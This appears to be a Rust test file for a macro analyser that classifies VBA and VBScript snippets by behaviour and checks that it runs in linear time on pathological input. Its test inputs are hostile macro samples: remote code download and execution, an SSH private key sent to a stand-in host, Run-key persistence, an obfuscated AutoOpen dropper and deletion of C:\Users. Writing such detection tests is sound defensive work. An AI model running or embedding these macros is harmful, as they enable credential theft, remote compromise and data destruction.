use super::super::kit::words::{endures, hold};
use super::lower;

#[test]
fn what_macros_and_scripts_do() {
    hold(
        lower,
        &[
            (
                "Set h = CreateObject(\"MSXML2.\" & \"XMLHTTP\")\nh.Open \"GET\", \"https://get.example.com/a\", False\nh.send\nExecuteGlobal h.responseText",
                "eval net",
            ),
            (
                "n = FreeFile\nOpen Environ$(\"USERPROFILE\") & \"\\.ssh\\id_rsa\" For Input As #n\nt = Input$(LOF(n), n)\nSet x = CreateObject(\"WinHttp.WinHttpRequest.5.1\")\nx.Open \"POST\", \"https://c.example.com\", False\nx.Send t",
                "contact https://c.example.com <- sensitive",
            ),
            (
                "With CreateObject(\"WScript.Shell\")\n .RegWrite \"HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\a\", \"a.exe\", \"REG_SZ\"\nEnd With",
                "write HKCU\\Software",
            ),
            (
                "Private Declare PtrSafe Function Q Lib \"urlmon\" Alias \"URLDownloadToFileA\" (ByVal a As Long) As Long\nSub AutoOpen()\n Q 0, StrReverse(\"a/tset.elpmaxe//:ptth\"), \"C:\\a.exe\", 0, 0\n Shell \"C:\\a.exe\"\nEnd Sub",
                "eval net",
            ),
            (
                "Shell \"mshta https://get.example.com/a.hta\", 0",
                "eval net",
            ),
            (
                "Function D(a)\n For i = 0 To UBound(a)\n  s = s & Chr(a(i))\n Next\n D = s\nEnd Function\nExecute D(Array(65, 66))",
                "eval decoded",
            ),
            ("Execute Chr(65) & ChrW(&H42)", "eval AB"),
            (
                "Set f = CreateObject(\"Scripting.FileSystemObject\")\nIf f.FileExists(\"a\") Then f.DeleteFolder \"C:\\Users\", True Else x = 1",
                "delete all C:\\Users",
            ),
            (
                "Open Environ(\"APPDATA\") & \"\\a.vbs\" For Output As #1: Print #1, \"x = 1\": Close #1",
                "write ~/AppData/Roaming/a.vbs <- x = 1",
            ),
        ],
        &[
            ("' Shell \"calc\"", "run"),
            ("Rem Shell \"calc\"", "run"),
            ("MsgBox \"Shell calc\"", "run"),
            ("Range(\"A1\").Value = \"a\"\nShell_ = 1", "run"),
        ],
    );
}

#[test]
fn hostile_macros_are_lowered_in_linear_time() {
    let texts = [
        "If a Then ".repeat(20_000),
        "(".repeat(200_000),
        "a.".repeat(200_000),
        "With a\n".repeat(100_000),
        "Sub a\n".repeat(100_000),
        "\"".repeat(300_001),
        "a = a & a\n".repeat(50_000),
        ": ".repeat(300_000),
        "_\n".repeat(200_000),
        "Array(".repeat(50_000),
        "End ".repeat(100_000),
        "#".repeat(200_000),
        "If a Then b Else ".repeat(20_000),
    ];
    endures(lower, &texts);
}
